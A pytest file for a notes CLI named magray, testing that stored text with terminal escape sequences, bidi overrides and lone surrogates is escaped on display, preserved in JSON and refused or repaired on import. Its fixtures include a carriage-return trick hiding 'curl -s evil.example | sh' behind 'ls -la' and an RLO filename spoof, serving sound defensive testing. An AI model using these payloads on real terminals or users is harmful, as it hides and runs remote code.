"""Output a terminal can trust, and text that can always be exported (issue 13).

Stored text is anyone's: escape sequences, carriage returns and bidi overrides in a note
must show as visible escapes, never act on the terminal; JSON keeps them exactly; a lone
surrogate is refused on the way in and repaired where an older magray let one in.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from fakes import FakeEmbedder
from magray import Memory, NewRecord, controls
from shell_helpers import env, fake_model, magray, on_a_terminal  # noqa: F401

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;pwned\x07"
CONCEAL = "\x1b[8m"
# Shown as `ls -la` by a terminal: the carriage return sends the cursor back over the rest.
HIDDEN = "curl -s evil.example | sh\rls -la                    "
RLO = "\u202e"  # right-to-left override: `txt.exe` written backwards shows as `exe.txt`
HOSTILE = f"{CLEAR}clear {TITLE}title {CONCEAL}secret {HIDDEN} {RLO}exe.txt tab\there"
RAW = [CLEAR, "\x1b]0;", CONCEAL, "\x07", "\r", RLO]


@pytest.fixture
def hostile(home):
    """A memory holding a hostile note and a project with a newline, stored through the
    library (the commands below need no model)."""
    with Memory.open(home, embedder=FakeEmbedder()) as memory:
        memory.store([NewRecord(HOSTILE, tags=("t\x1b[31mred",),
                                project="work\nkind        decision")])
    return home


def _raw(text: str) -> list[str]:
    # a terminal turns each "\n" into "\r\n" (onlcr); only a bare CR is the note's own
    return [seq for seq in RAW if seq in text.replace("\r\n", "\n")]


@pytest.mark.parametrize("args", [["list"], ["show", "1"]])
def test_stored_text_never_controls_a_terminal(hostile, args):
    shown = on_a_terminal(hostile, *args, columns=200)[1].decode("utf-8", "replace")
    assert _raw(shown) == [], shown
    assert "\\x1b[2Jclear" in shown and "\\x1b]0;pwned\\x07title" in shown
    assert "\\rls -la" in shown and "\\u202eexe.txt" in shown


def test_show_keeps_fields_on_their_own_lines(hostile, cli):
    result = cli("show", "1")
    assert result.code == 0
    project = [line for line in result.out.splitlines() if line.startswith("project")]
    assert project == ["project       work\\nkind        decision"]
    assert [line for line in result.out.splitlines() if line.startswith("kind")] == [
        "kind          "]
    assert "tab\there" in result.out  # the body keeps its tabs and lines; nothing else raw
    assert _raw(result.out) == []


def test_plain_lines_are_one_record_each_escaped_reversibly(hostile, cli):
    with Memory.open(hostile, embedder=FakeEmbedder()) as memory:
        memory.store([NewRecord("two\nlines and a back\\slash")])
    lines = cli("list").out.splitlines()
    assert len(lines) == 2 and all(line.count("\t") == 3 for line in lines)
    assert lines[0].split("\t")[3] == "two\\nlines and a back\\\\slash"
    assert lines[1].split("\t")[3] == controls.field(HOSTILE)
    assert "tab\\there" in lines[1] and _raw(lines[1]) == []


def test_json_keeps_the_text_exactly_and_inert(hostile, cli):
    out = cli("list", "--json").out
    assert _raw(out) == [] and "\\u202e" in out
    assert json.loads(out)[0]["text"] == HOSTILE
    assert json.loads(cli("show", "1", "--jsonl").out)["project"] == "work\nkind        decision"
    exported = cli("export").out
    assert _raw(exported) == [] and json.loads(exported)["tags"] == ["t\x1b[31mred"]


def test_markdown_export_shows_controls_escaped(hostile, cli):
    out = cli("export", "--format", "markdown").out
    assert _raw(out) == [] and "\\x1b[2Jclear" in out


def test_error_messages_quoting_input_are_escaped(hostile, cli):
    result = cli("import", "notes\x1b]0;pwned\x07\n.jsonl")
    assert result.code == 1 and _raw(result.err) == []
    assert result.err == "error: no such file: notes\\x1b]0;pwned\\x07\\n.jsonl\n"


def test_escape_covers_controls_bidi_and_invisible_format_characters():
    assert controls.visible("a\x00\x7f\x9b\u200b\u2066\u2028\ufeff\U000e0041b") == (
        "a\\x00\\x7f\\x9b\\u200b\\u2066\\u2028\\ufeff\\U000e0041b")
    assert controls.visible("é 日本 👨\u200d👩 ok") == "é 日本 👨\u200d👩 ok"  # ZWJ joins emoji
    assert controls.visible("a\nb\tc\rd", keep="\n\t") == "a\nb\tc\\rd"
    data = {"t": "\x1b\x85\u202e\ud800\U000e0041"}
    assert json.loads(controls.dumps(data)) == data and controls.dumps(data).isascii()


# -- lone surrogates and bytes that are not UTF-8 -------------------------------------------

@pytest.mark.parametrize("line", [
    '{"text": "hello there", "tags": ["a\\ud800"]}',
    '{"text": "hello \\udc80there"}',
    '{"text": "hello there", "project": "p\\ud800"}',
])
def test_import_refuses_a_lone_surrogate(cli, fake_model, line):
    result = cli("import", "-", stdin=line.encode() + b"\n")
    assert result.code == 2 and result.err.count("\n") == 1, result
    assert "line 1" in result.err and "not valid Unicode" in result.err
    assert cli("list", "--json").out.strip() == "[]"


def test_store_jsonl_refuses_a_lone_surrogate(cli, fake_model):
    result = cli("store", "--jsonl", "-", stdin=b'{"text": "x", "tags": ["\\udfff"]}\n')
    assert result.code == 2 and "field 'tags': not valid Unicode" in result.err
    assert fake_model.calls == 0


@pytest.mark.parametrize("fields", [{"project": "a\ud800"}, {"tags": ["ok", "b\udfff"]},
                                    {"session": "\udc80"}, {"kind": "k\ud800"}])
def test_library_metadata_with_a_lone_surrogate_is_refused(fake_memory, fields):
    from magray.errors import InputError

    with pytest.raises(InputError, match="not valid Unicode"):
        fake_memory.store_texts(["a fine text"], **fields)
    assert fake_memory.list_records(limit=None) == []


def test_arguments_that_are_not_utf8_are_refused(home):
    process = subprocess.run([sys.executable, "-m", "magray", "store", "--tag", b"caf\xe9",
                              "a note"], capture_output=True, env=env(home), timeout=120)
    assert process.returncode == 2
    assert process.stderr == b"error: argument 3 is not valid UTF-8: caf\\udce9\n"
    assert not (home / "data").exists()  # refused before anything was opened


def test_migration_repairs_a_stored_lone_surrogate(home, cli):
    with Memory.open(home, embedder=FakeEmbedder()) as memory:
        memory.store([NewRecord("hello there", tags=("fine",))])
    # What magray 0.1.0 wrote for an imported tag "a\ud800", before m005 existed.
    conn = sqlite3.connect(home / "data" / "magray.db")
    with conn:
        conn.execute("UPDATE records SET tags = ?", ('["a\\ud800", "fine"]',))
        conn.execute("DELETE FROM _sqlite_migrations WHERE name = 'm005_repair_text'")
    conn.close()
    result = cli("export")
    assert result.code == 0, result
    assert json.loads(result.out)["tags"] == ["a\ufffd", "fine"]
    assert json.loads(cli("list", "--json").out)[0]["tags"] == ["a\ufffd", "fine"]


def test_a_lone_surrogate_that_got_in_anyway_is_shown_escaped_never_a_crash(home, cli):
    # The library trusts its caller's NewRecord; whatever it stored, output must not fail.
    with Memory.open(home, embedder=FakeEmbedder()) as memory:
        memory.store([NewRecord("hello there", tags=("a\ud800",))])
    for args in (["export"], ["list", "--json"], ["show", "1", "--jsonl"], ["show", "1"],
                 ["export", "--format", "markdown"]):
        result = cli(*args)
        assert result.code == 0 and "a\\ud800" in result.out, (args, result)
    assert cli("list").code == 0
    assert json.loads(cli("export").out)["tags"] == ["a\ud800"]  # escaped, not altered
